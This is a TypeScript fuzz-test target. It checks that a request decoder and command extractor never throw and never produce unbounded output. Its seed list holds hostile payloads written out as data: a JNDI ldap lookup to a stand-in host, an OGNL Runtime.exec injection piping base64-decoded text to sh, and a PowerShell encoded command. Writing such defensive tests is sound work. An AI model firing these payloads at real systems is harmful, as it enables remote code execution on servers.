/** Making a request plain and looking for its command never throws and never grows without bound. */
import { commandIn, openedCommand } from '../../src/codec/request-text/command-in-text.ts';
import { longestRequest, plainQuery } from '../../src/codec/request-text/request-text.ts';
import type { FuzzTarget } from '../target.ts';

const seeds = [
  'q=%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D',
  'x=%2525%u0041\\u0041\\x41',
  'redirect:$%7B@java.lang.Runtime@getRuntime().exec("echo aWQ=|base64 -d|sh")%7D',
  "cmd=powershell -enc aQBkAA== '",
];

export const target: FuzzTarget = {
  id: 'request-text',
  seeds: () => seeds.map((seed) => new TextEncoder().encode(seed)),
  run(bytes) {
    const plain = plainQuery(new TextDecoder('latin1').decode(bytes));
    if (plain.length > longestRequest) throw new Error(`${plain.length} characters`);
    const opened = openedCommand(commandIn(plain) ?? plain);
    if (opened.length > longestRequest) throw new Error(`${opened.length} characters of a command`);
  },
};
